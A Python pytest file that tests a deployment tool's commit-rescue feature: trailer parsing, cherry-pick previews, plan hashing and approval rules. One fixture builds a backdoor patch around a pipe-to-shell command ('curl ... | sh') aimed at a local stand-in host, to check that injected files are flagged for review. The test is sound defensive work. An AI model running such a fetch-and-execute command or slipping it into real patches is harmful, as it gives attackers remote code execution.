"""The Rescue class against a real mirror of a real repository and a real SQLite store.

No daemon: trailers and the selection rule, the preview (clean, conflicting, already in the
base, merges left out), the plan (stable unless what would land changes) and the checks an
approval goes through.
"""

from __future__ import annotations

import dataclasses
import json
import re
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from deployd import rescue_preview
from deployd.config import AppConfig, RescueConfig
from deployd.errors import Conflict, Forbidden, Invalid
from deployd.git import CommitInfo, Mirror
from deployd.metrics import Metrics
from deployd.rescue import Rescue, preselected, trailers
from deployd.rescue_preview import candidates_of
from deployd.store import JobStore, Store
from tests.support.gitrepo import OriginRepo, commits_sharing_a_prefix
from tests.support.postgres import BACKENDS, store_backend
from tests.support.rescuelab import RESOLVED, backdoor_patch

T0 = 1_700_000_000.0
FIX = "Fix tax rounding\n\nThe rate was rounded twice.\n\nRescue: yes\n"


class Clock:
    def __init__(self) -> None:
        self.now = T0

    def __call__(self) -> float:
        return self.now


def app_config(url: str = "/nonexistent", **rescue: object) -> AppConfig:
    return AppConfig(name="shop", repo=url, branch="production", deploy_to="/srv/shop",
                     hosts=(), rescue=RescueConfig(**rescue))  # type: ignore[arg-type]


def info(message: str) -> CommitInfo:
    return CommitInfo(sha="a" * 40, summary=message.splitlines()[0] if message else "",
                      author_name="Ann", author_email="ann@example.com", time=0, parents=(),
                      message=message, tree="b" * 40)


# -- trailers and the selection rule ---------------------------------------------------------


@pytest.mark.parametrize(("message", "expected"), [
    (FIX, {"rescue": "yes"}),
    ("Fix\n\nbody\n\nRescue: yes\nSigned-off-by: Ann <ann@example.com>\n",
     {"rescue": "yes", "signed-off-by": "Ann <ann@example.com>"}),
    ("Fix\n\nRESCUE:   Yes  \n", {"rescue": "Yes"}),
    ("Fix\n\n\n\nRescue: yes\n\n\n", {"rescue": "yes"}),
    ("Rescue: yes\n", {}),  # the subject alone is no trailer block
    ("Fix\n\nRescue: yes\nbut then prose\n", {}),  # the last paragraph is not all trailers
    ("Fix\n\nRescue: yes\n\nA closing remark.\n", {}),  # trailers must come last
    ("Fix\n\nNot a trailer line: fine\nreally not\n", {}),
    ("", {}),
    ("Fix\n\nRescue-Job: shop#3\nApproved-by: alice\n",
     {"rescue-job": "shop#3", "approved-by": "alice"}),
])
def test_trailers(message: str, expected: dict[str, str]) -> None:
    """trailers() reads the last paragraph when every line of it is `Key: value`."""
    assert trailers(message) == expected


def test_trailers_of_a_cherry_picked_commit() -> None:
    """A block with git's (or deployd's) `(cherry picked from commit ...)` line still counts."""
    message = ("Fix tax rounding\n\nRescue: yes\n"
               "(cherry picked from commit 0123456789abcdef0123456789abcdef01234567)\n"
               "Rescue-Job: shop#1\nApproved-by: alice\n")
    assert trailers(message) == {"rescue": "yes", "rescue-job": "shop#1",
                                 "approved-by": "alice"}
    assert preselected(app_config(), info(message))


@pytest.mark.parametrize(("value", "picked"), [
    ("yes", True), ("Yes", True), ("true", True), ("1", True), ("please", True),
    ("no", False), ("NO", False), ("false", False), ("0", False), ("off", False),
    ("n", False), ("", True),
])
def test_preselected_by_trailer_value(value: str, picked: bool) -> None:
    """The trailer rule picks a commit whose trailer is present and not a "no" word."""
    message = f"Fix\n\nRescue: {value}\n".replace("Rescue: \n", "Rescue:\n")
    assert preselected(app_config(), info(message)) is picked


def test_preselected_rules() -> None:
    """trailer:<Name> (any case), message:<regex> and none."""
    assert not preselected(app_config(), info("Fix tax rounding\n"))
    assert not preselected(app_config(), info("Fix\n\nRescue yes\n"))
    assert not preselected(app_config(), info("Rescue: yes\n"))  # subject, not trailer
    hotfix = app_config(select_kind="trailer", select_value="Hotfix")
    assert preselected(hotfix, info("Fix\n\nhotfix: yes\n"))
    assert not preselected(hotfix, info(FIX))
    regex = app_config(select_kind="message", select_value=r"(?i)\[rescue\]")
    assert preselected(regex, info("[RESCUE] fix tax rounding\n"))
    assert preselected(regex, info("Fix tax rounding\n\nthis is a [rescue]\n"))
    assert not preselected(regex, info(FIX))
    nothing = app_config(select_kind="none", select_value="")
    assert not preselected(nothing, info(FIX))


# -- a mirror, a store, and jobs ---------------------------------------------------------------


@dataclasses.dataclass
class World:
    origin: OriginRepo
    mirror: Mirror
    store: Store
    rescue: Rescue
    clock: Clock
    metrics: Metrics


@pytest.fixture(params=BACKENDS)
async def world(request: pytest.FixtureRequest, tmp_path: Path) -> AsyncIterator[World]:
    origin = OriginRepo(tmp_path / "origin.git")
    origin.commit({"config.txt": "# shop\nsetting = 1\ncurrency = EUR\n", "health.txt": "ok\n"},
                  "Shop v1")
    mirror = Mirror(tmp_path / "mirror.git", origin.url, name="shop")
    store = Store(store_backend(request, tmp_path / "deployd.sqlite3"))
    await store.open()
    clock = Clock()
    metrics = Metrics()
    rescue = Rescue(app_config(origin.url), store=store, jobs=JobStore(store), mirror=mirror,
                    metrics=metrics, clock=clock)
    yield World(origin, mirror, store, rescue, clock, metrics)
    await store.close()


def batch(origin: OriginRepo, *, conflicting: bool = False) -> tuple[str, str, str, str]:
    """G (the head now), then A, P (Rescue: yes), B on top; production at B."""
    good = origin.head()
    if conflicting:
        a = origin.commit({"config.txt": "# shop\nsetting = 2\ncurrency = EUR\n"}, "Setting 2")
        p = origin.commit({"config.txt": "# shop\nsetting = 3\ncurrency = EUR\n",
                           "tax.txt": "rate 0.2\n"}, FIX)
    else:
        a = origin.commit({"index.html": "<h1>v2</h1>\n"}, "Front page v2")
        p = origin.commit({"tax.txt": "rate 0.2\n"}, FIX)
    b = origin.commit({"health.txt": "broken\n"}, "Switch to the new database")
    return good, a, p, b


def by_sha(job_candidates: list[dict[str, object]]) -> dict[str, dict[str, object]]:
    return {str(c["sha"]): c for c in job_candidates}


async def test_open_lists_the_range_and_preselects(world: World) -> None:
    """Candidates are base..bad head oldest first with sha, summary, author; P is picked."""
    good, a, p, b = batch(world.origin)
    await world.mirror.fetch()
    job = await world.rescue.open(base=good, bad_head="production", requester="deployd",
                                  reason="bake failed")
    assert job.base == good and job.bad_head == b and job.state == "pending"
    assert [c["sha"] for c in job.candidates] == [a, p, b]
    assert job.candidates[1]["summary"] == "Fix tax rounding"
    assert job.candidates[1]["author"] == "Ann Author <ann@example.com>"
    assert job.selection == [p]
    assert job.expires_at == T0 + 86400
    preview = job.preview
    candidates = by_sha(candidates_of(job))
    assert [c["selected"] for c in candidates_of(job)] == [False, True, False]
    assert candidates[p]["applies_cleanly"] is True
    assert candidates[p]["conflicting_paths"] == []
    assert candidates[p]["already_in_base"] is False
    assert candidates[p]["adapted"] is False
    assert preview["ready"] is True and preview["blocked_by"] is None
    assert preview["adaptation"] is None
    assert job.plan is not None
    patch = await world.rescue.patch(job)
    assert "+++ b/tax.txt" in patch and "+rate 0.2" in patch and "health.txt" not in patch
    (event,) = await world.store.events("shop")
    assert event.kind == "job.opened" and event.data == {"job": job.id, "plan": job.plan}
    assert world.metrics.registry.get_sample_value(
        "deployd_rescue_jobs", {"app": "shop", "state": "pending"}) == 1
    assert world.metrics.registry.get_sample_value(
        "deployd_rescue_job_oldest_pending_timestamp_seconds", {"app": "shop"}) is not None


async def test_open_refuses_an_empty_range(world: World) -> None:
    """Base == bad head, or a bad head behind the base: nothing to rescue (Invalid)."""
    good = world.origin.head()
    await world.mirror.fetch()
    with pytest.raises(Invalid, match="nothing to rescue"):
        await world.rescue.open(base=good, bad_head=good, requester="x", reason="")
    newer = world.origin.commit({"x": "1"}, "Newer")
    await world.mirror.fetch()
    with pytest.raises(Invalid, match="no commits between"):
        await world.rescue.open(base=newer, bad_head=good, requester="x", reason="")


async def test_preview_conflict_names_the_paths(world: World) -> None:
    """P changes a line an earlier commit of the range changed: conflict, not ready."""
    good, a, p, _ = batch(world.origin, conflicting=True)
    await world.mirror.fetch()
    job = await world.rescue.open(base=good, bad_head="production", requester="deployd",
                                  reason="")
    candidates = by_sha(candidates_of(job))
    assert candidates[p]["applies_cleanly"] is False
    assert candidates[p]["conflicting_paths"] == ["config.txt"]
    assert "already_in_base" not in candidates[p]
    assert job.preview["ready"] is False and job.plan is None
    assert p[:12] in job.preview["blocked_by"]
    # With A before it, P applies: the preview is per selection, oldest first.
    job = await world.rescue.set_selection(job.id, [p, a], actor="alice")
    assert job.selection == [a, p]
    candidates = by_sha(candidates_of(job))
    assert candidates[a]["applies_cleanly"] and candidates[p]["applies_cleanly"]
    assert job.preview["ready"] is True and job.plan is not None
    # Each commit lands as it was made (1 -> 2, then 2 -> 3): nothing adapted.
    assert job.preview["adaptation"] is None
    assert not candidates[a]["adapted"] and not candidates[p]["adapted"]


async def test_unselected_candidates_are_tried_alone_on_the_base(world: World) -> None:
    """Every candidate shows whether it applies: unselected ones alone on the base, selected
    ones after the selected commits before them (`applies_on` says which)."""
    good, a, p, b = batch(world.origin, conflicting=True)
    await world.mirror.fetch()
    job = await world.rescue.open(base=good, bad_head="production", requester="deployd",
                                  reason="", commits=[a])
    candidates = by_sha(candidates_of(job))
    assert candidates[a]["selected"] is True and candidates[a]["applies_on"] == "selection"
    assert candidates[a]["applies_cleanly"] is True
    assert candidates[p]["selected"] is False and candidates[p]["applies_on"] == "base"
    assert candidates[p]["applies_cleanly"] is False
    assert candidates[p]["conflicting_paths"] == ["config.txt"]
    assert candidates[b]["applies_on"] == "base" and candidates[b]["applies_cleanly"] is True
    assert candidates[b]["conflicting_paths"] == []
    # Selected after A, P applies; B, still unselected, keeps its preview alone.
    job = await world.rescue.set_selection(job.id, [a, p], actor="alice")
    candidates = by_sha(candidates_of(job))
    assert candidates[p]["applies_on"] == "selection" and candidates[p]["applies_cleanly"]
    assert candidates[b]["applies_on"] == "base" and candidates[b]["applies_cleanly"]


async def test_only_the_first_candidates_are_tried_alone(world: World,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    """Past MAX_TRIED_ALONE candidates, unselected ones show no preview at all."""
    monkeypatch.setattr(rescue_preview, "MAX_TRIED_ALONE", 2)
    good, a, p, b = batch(world.origin)
    await world.mirror.fetch()
    job = await world.rescue.open(base=good, bad_head="production", requester="deployd",
                                  reason="")
    candidates = by_sha(candidates_of(job))
    assert candidates[a]["applies_on"] == "base" and candidates[p]["applies_on"] == "selection"
    assert "applies_on" not in candidates[b] and "applies_cleanly" not in candidates[b]


async def test_preview_conflict_after_a_clean_commit_is_still_reported(world: World) -> None:
    """A clean commit followed by a conflicting one: both statuses, the first stays clean."""
    good, _, p, _ = batch(world.origin, conflicting=True)
    extra = world.origin.commit({"notes.txt": "n\n"}, "Notes")
    await world.mirror.fetch()
    job = await world.rescue.open(base=good, bad_head="production", requester="deployd",
                                  reason="", commits=[extra, p])
    candidates = by_sha(candidates_of(job))
    assert candidates[extra]["applies_cleanly"] is True
    assert candidates[p]["applies_cleanly"] is False
    assert job.preview["ready"] is False


async def test_preview_already_in_base_and_merges_left_out(world: World) -> None:
    """A commit whose change the base already has is applies-cleanly and already-in-base."""
    origin = world.origin
    start = origin.head()
    # production got the tax fix directly; master made the same change on its own.
    good = origin.commit({"tax.txt": "rate 0.2\n"}, "Hotfix tax on production")
    p = origin.commit({"tax.txt": "rate 0.2\n"}, FIX, branch="master", parents=[start])
    b = origin.commit({"health.txt": "broken\n"}, "Break", branch="master", parents=[p])
    merge = origin.commit({"health.txt": "broken\n"}, "Merge master into production",
                          parents=[good, b])
    await world.mirror.fetch()
    job = await world.rescue.open(base=good, bad_head=merge, requester="deployd", reason="")
    assert [c["sha"] for c in job.candidates] == [p, b]  # the merge is not a candidate
    assert job.selection == [p]
    candidates = by_sha(candidates_of(job))
    assert candidates[p]["applies_cleanly"] is True
    assert candidates[p]["already_in_base"] is True
    assert candidates[p]["adapted"] is False
    assert job.preview["ready"] is True
    assert await world.rescue.patch(job) == ""
    with pytest.raises(Invalid, match="not in the bad range"):
        await world.rescue.set_selection(job.id, [merge], actor="alice")


# -- the plan ------------------------------------------------------------------------------


async def test_plan_is_stable_unless_what_lands_changes(world: World) -> None:
    """Same base, head, selection and patch: same plan; change any of them: a new plan."""
    good, a, p, b = batch(world.origin)
    await world.mirror.fetch()
    job = await world.rescue.open(base=good, bad_head=b, requester="deployd", reason="")
    first = job.plan
    assert first is not None
    world.clock.now += 3600
    assert (await world.rescue.compute_preview(job)).plan == first
    job = await world.rescue.set_selection(job.id, [p], actor="alice")
    assert job.plan == first
    job = await world.rescue.set_selection(job.id, [a, p], actor="alice")
    both = job.plan
    assert both not in (None, first)
    job = await world.rescue.set_selection(job.id, [a], actor="alice")
    assert job.plan not in (None, first, both)
    job = await world.rescue.set_selection(job.id, [p, a], actor="alice")
    assert job.plan == both
    job = await world.rescue.set_selection(job.id, [p], actor="alice")
    assert job.plan == first
    # Another job on the same range has the same plan; on another bad head it does not.
    twin = await world.rescue.open(base=good, bad_head=b, requester="deployd", reason="")
    assert twin.plan == first
    other = await world.rescue.open(base=good, bad_head=p, requester="deployd", reason="",
                                    commits=[p])
    assert other.plan not in (None, first)


async def test_plan_changes_with_the_resolved_patch(world: World) -> None:
    """A resolved patch makes the job ready with its own plan; another patch, another plan."""
    good, a, p, _ = batch(world.origin, conflicting=True)
    await world.mirror.fetch()
    job = await world.rescue.open(base=good, bad_head="production", requester="deployd",
                                  reason="")
    assert job.plan is None
    with pytest.raises(Invalid, match="does not apply"):
        await world.rescue.set_resolved_patch(
            job.id, RESOLVED.replace("-setting = 1", "-setting = 2"), actor="alice")
    job = await world.rescue.set_resolved_patch(job.id, RESOLVED, actor="alice")
    assert job.preview["ready"] is True and job.resolved_patch == RESOLVED
    patched = job.plan
    assert patched is not None
    assert (await world.rescue.compute_preview(job)).plan == patched
    assert job.preview["adaptation"] is not None
    landing = await world.rescue.patch(job)
    assert "+setting = 3" in landing and "-setting = 1" in landing
    # The same change written otherwise (files swapped): same tree, but another plan.
    config_part, tax_part = RESOLVED.split("diff --git a/tax.txt")
    swapped = "diff --git a/tax.txt" + tax_part + config_part
    tree = job.preview["tree"]
    job = await world.rescue.set_resolved_patch(job.id, swapped, actor="alice")
    assert job.preview["tree"] == tree
    assert job.plan not in (None, patched)
    # A new selection drops the patch.
    job = await world.rescue.set_selection(job.id, [a, p], actor="alice")
    assert job.resolved_patch is None and job.plan not in (None, patched)
    await world.rescue.set_selection(job.id, [], actor="alice")
    with pytest.raises(Invalid, match="select the commits"):
        await world.rescue.set_resolved_patch(job.id, RESOLVED, actor="alice")


async def test_check_approval(world: World) -> None:
    """Not pending, expired, not ready, stale plan, same requester: each refused."""
    good, _, p, b = batch(world.origin)
    await world.mirror.fetch()
    job = await world.rescue.open(base=good, bad_head=b, requester="bob", reason="")
    assert job.plan is not None
    await world.rescue.check_approval(job, plan=job.plan, actor="bob")
    with pytest.raises(Conflict, match="stale plan"):
        await world.rescue.check_approval(job, plan="0" * 32, actor="alice")
    strict = Rescue(app_config(world.origin.url, distinct_approver=True), store=world.store,
                    jobs=world.rescue.jobs, mirror=world.mirror, metrics=world.metrics,
                    clock=world.clock)
    with pytest.raises(Forbidden):
        await strict.check_approval(job, plan=job.plan, actor="bob")
    await strict.check_approval(job, plan=job.plan, actor="alice")
    empty = await world.rescue.set_selection(job.id, [], actor="alice")
    with pytest.raises(Invalid, match="nothing selected"):
        await world.rescue.check_approval(empty, plan=job.plan, actor="alice")
    job = await world.rescue.set_selection(job.id, [p], actor="alice")
    assert job.plan is not None
    approved = await world.rescue.approve(job, plan=job.plan, actor="alice", comment="ok")
    assert approved.state == "approved"
    with pytest.raises(Conflict, match="decided or changed meanwhile"):
        await world.rescue.approve(job, plan=job.plan, actor="carol", comment="")
    with pytest.raises(Conflict, match="approved, not pending"):
        await world.rescue.check_approval(approved, plan=job.plan, actor="carol")
    late = await world.rescue.open(base=good, bad_head=b, requester="deployd", reason="")
    assert late.plan is not None
    world.clock.now = late.expires_at
    with pytest.raises(Conflict, match="expired"):
        await world.rescue.check_approval(late, plan=late.plan, actor="alice")
    assert (await world.rescue.jobs.get(late.id)).state == "expired"


async def test_approval_of_a_plan_replaced_meanwhile_changes_nothing(world: World) -> None:
    """An approval checked against one plan loses to a selection change that landed first."""
    good, a, p, b = batch(world.origin)
    await world.mirror.fetch()
    job = await world.rescue.open(base=good, bad_head=b, requester="bob", reason="")
    assert job.plan is not None
    await world.rescue.check_approval(job, plan=job.plan, actor="alice")
    changed = await world.rescue.set_selection(job.id, [a, p], actor="carol")
    assert changed.plan != job.plan
    with pytest.raises(Conflict, match="changed meanwhile"):
        await world.rescue.approve(job, plan=job.plan, actor="alice", comment="")
    assert (await world.rescue.jobs.get(job.id)).state == "pending"


BACKDOOR = backdoor_patch("curl -s http://127.0.0.1:9/x | sh")


async def test_patch_scope_names_what_the_commits_did_not_contain(world: World) -> None:
    """A resolved patch within P's own change is not beyond it; a new path, a line or a file
    mode P did not bring in is, and names the extra paths."""
    good, _, p, _ = batch(world.origin, conflicting=True)
    await world.mirror.fetch()
    job = await world.rescue.open(base=good, bad_head="production", requester="deployd",
                                  reason="")
    job = await world.rescue.set_resolved_patch(job.id, RESOLVED, actor="alice")
    assert job.resolved_by == "alice" and job.last_changed_by == "alice"
    assert job.preview["extra_paths"] == [] and job.preview["beyond_commits"] is False
    extra_line = RESOLVED.replace("@@ -0,0 +1 @@\n+rate 0.2\n",
                                  "@@ -0,0 +1,2 @@\n+rate 0.2\n+rate_override = 0\n")
    executable = RESOLVED.replace("new file mode 100644", "new file mode 100755")
    for patch, extra in ((RESOLVED + BACKDOOR, ["backdoor.sh"]), (extra_line, []),
                         (executable, [])):
        job = await world.rescue.set_resolved_patch(job.id, patch, actor="mallory")
        assert job.preview["ready"] is True, job.preview
        assert job.preview["extra_paths"] == extra, patch
        assert job.preview["beyond_commits"] is True, patch
        assert job.resolved_by == "mallory" and job.last_changed_by == "mallory"
    job = await world.rescue.set_selection(job.id, [p], actor="carol")
    assert job.resolved_by is None and job.last_changed_by == "carol"
    assert job.preview["extra_paths"] == [] and job.preview["beyond_commits"] is False


async def test_distinct_approver_refuses_the_last_changer(world: World) -> None:
    """With distinct_approver, who uploaded the patch or chose the selection may not approve,
    even after re-uploading the same patch between the check and the approval."""
    good, a, p, _ = batch(world.origin, conflicting=True)
    await world.mirror.fetch()
    strict = Rescue(app_config(world.origin.url, distinct_approver=True), store=world.store,
                    jobs=world.rescue.jobs, mirror=world.mirror, metrics=world.metrics,
                    clock=world.clock)
    job = await strict.open(base=good, bad_head="production", requester="deployd", reason="")
    job = await strict.set_resolved_patch(job.id, RESOLVED, actor="mallory")
    assert job.plan is not None
    with pytest.raises(Forbidden, match="distinct_approver: mallory uploaded the resolved"):
        await strict.check_approval(job, plan=job.plan, actor="mallory")
    await strict.check_approval(job, plan=job.plan, actor="alice")
    # alice passed the check; she then uploads the very same patch (same plan) herself.
    again = await strict.set_resolved_patch(job.id, RESOLVED, actor="alice")
    assert again.plan != job.plan  # the resolver is part of the plan
    with pytest.raises(Conflict, match="changed meanwhile"):
        await strict.approve(job, plan=job.plan, actor="alice", comment="")
    job = await strict.set_selection(job.id, [a, p], actor="mallory")
    assert job.plan is not None and job.resolved_patch is None
    with pytest.raises(Forbidden, match="mallory chose the selection"):
        await strict.check_approval(job, plan=job.plan, actor="mallory")
    await strict.check_approval(job, plan=job.plan, actor="alice")
    # The same selection chosen again by alice keeps the plan, but she is now its chooser.
    same = await strict.set_selection(job.id, [a, p], actor="alice")
    assert same.plan == job.plan
    with pytest.raises(Conflict, match="changed meanwhile"):
        await strict.approve(job, plan=job.plan, actor="alice", comment="")
    assert (await strict.jobs.get(job.id)).state == "pending"


async def test_a_short_sha_in_a_selection_is_the_commit_not_a_branch(world: World) -> None:
    """A branch named like a candidate's short sha does not take its place in a selection."""
    good, a, p, b = batch(world.origin)
    world.origin.set_branch(p[:8], b)
    world.origin.set_branch(a[:8], good)
    await world.mirror.fetch()
    job = await world.rescue.open(base=good, bad_head="production", requester="deployd",
                                  reason="")
    job = await world.rescue.set_selection(job.id, [p[:8]], actor="alice")
    assert job.selection == [p]
    job = await world.rescue.open(base=a[:8], bad_head="production", requester="deployd",
                                  reason="")
    assert job.base == a


async def test_an_ambiguous_abbreviation_in_a_selection_lists_the_commits(world: World) -> None:
    """A selection or base naming several commits is refused with the commits it could mean."""
    good, _, p, _ = batch(world.origin)
    one, other = commits_sharing_a_prefix(world.origin)
    world.origin.set_branch("production", p)
    await world.mirror.fetch()
    job = await world.rescue.open(base=good, bad_head="production", requester="deployd",
                                  reason="")
    with pytest.raises(Invalid, match="ambiguous") as refused:
        await world.rescue.set_selection(job.id, [one[:4]], actor="alice")
    assert one[:12] in str(refused.value) and other[:12] in str(refused.value)
    with pytest.raises(Invalid, match="ambiguous"):
        await world.rescue.open(base=one[:4], bad_head="production", requester="deployd",
                                reason="")


async def test_patch_scope_counts_removed_lines(world: World) -> None:
    """A patch removing more lines from a file than the commits did is beyond them, even when
    every line it adds is theirs."""
    world.origin.commit({"auth.py": "def check(user):\n    require_admin(user)\n    return 1\n"},
                        "auth")
    good = world.origin.head()
    p = world.origin.commit({"auth.py": "def check(user):\n    require_admin(user)\n"
                                        "    return 2\n"}, FIX)
    world.origin.commit({"health.txt": "broken\n"}, "Break")
    await world.mirror.fetch()
    job = await world.rescue.open(base=good, bad_head="production", requester="deployd",
                                  reason="")
    assert job.selection == [p]
    own = await world.mirror.diff(good, p)
    job = await world.rescue.set_resolved_patch(job.id, own, actor="mallory")
    assert job.preview["beyond_commits"] is False
    dropped = own.replace(" def check(user):\n     require_admin(user)\n",
                          " def check(user):\n-    require_admin(user)\n")
    dropped = dropped.replace("@@ -1,3 +1,3 @@", "@@ -1,3 +1,2 @@")
    job = await world.rescue.set_resolved_patch(job.id, dropped, actor="mallory")
    assert job.preview["extra_paths"] == [] and job.preview["beyond_commits"] is True


# -- big ranges: candidates a page at a time -----------------------------------------------------


async def test_job_view_lists_candidates_a_page_at_a_time(world: World) -> None:
    """describe() shows a page of candidates, their total and the next page's link; the
    selection and the preview of a selected commit do not depend on the page shown."""
    good, a, p, b = batch(world.origin)
    await world.mirror.fetch()
    job = await world.rescue.open(base=good, bad_head=b, requester="bob", reason="")
    first = await world.rescue.describe(job, candidates_offset=0, candidates_limit=1)
    assert [c["sha"] for c in first["candidates"]] == [a]
    assert first["candidates_total"] == 3 and first["candidates_offset"] == 0
    assert first["selection"] == [p]
    assert first["links"]["candidates_next"] == (
        f"/api/v1/jobs/{job.id}?candidates_offset=1&candidates_limit=1")
    second = await world.rescue.describe(job, candidates_offset=1, candidates_limit=1)
    (shown,) = second["candidates"]
    assert shown["sha"] == p and shown["selected"] is True and shown["applies_cleanly"] is True
    assert second["plan"] == first["plan"] == job.plan and second["selection"] == [p]
    last = await world.rescue.describe(job, candidates_offset=2, candidates_limit=5)
    assert [c["sha"] for c in last["candidates"]] == [b] and "candidates_next" not in last["links"]
    whole = await world.rescue.describe(job)
    assert [c["sha"] for c in whole["candidates"]] == [a, p, b]
    assert "candidates_next" not in whole["links"]


async def test_job_view_writes_times_like_every_rest_time(world: World) -> None:
    """A job's created_at and expires_at are UTC with milliseconds, like events and deploys
    (and like the job's own approvals and log), and its state is the bare word."""
    good, _, _, b = batch(world.origin)
    await world.mirror.fetch()
    world.clock.now = T0 + 0.25
    job = await world.rescue.open(base=good, bad_head=b, requester="bob", reason="")
    view = await world.rescue.describe(job)
    assert view["expires_at"] == "2023-11-15T22:13:20.250Z"
    stamp = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z")
    assert stamp.fullmatch(view["created_at"]) and stamp.fullmatch(view["log"][0]["at"])
    assert json.dumps(view["state"]) == '"pending"'


async def test_job_stored_with_a_full_candidate_copy_still_shows(world: World) -> None:
    """A preview stored before statuses were kept per selected commit reads the same."""
    good, _, p, b = batch(world.origin)
    await world.mirror.fetch()
    job = await world.rescue.open(base=good, bad_head=b, requester="bob", reason="")
    now = candidates_of(job)
    assert by_sha(now)[p]["applies_cleanly"] is True and by_sha(now)[p]["selected"] is True
    older = {k: v for k, v in job.preview.items() if k != "statuses"}
    stored = await world.rescue.jobs.update(job.id, preview={**older, "candidates": now})
    assert stored is not None and "statuses" not in stored.preview
    assert candidates_of(stored) == now
    assert (await world.rescue.describe(stored))["candidates"] == now
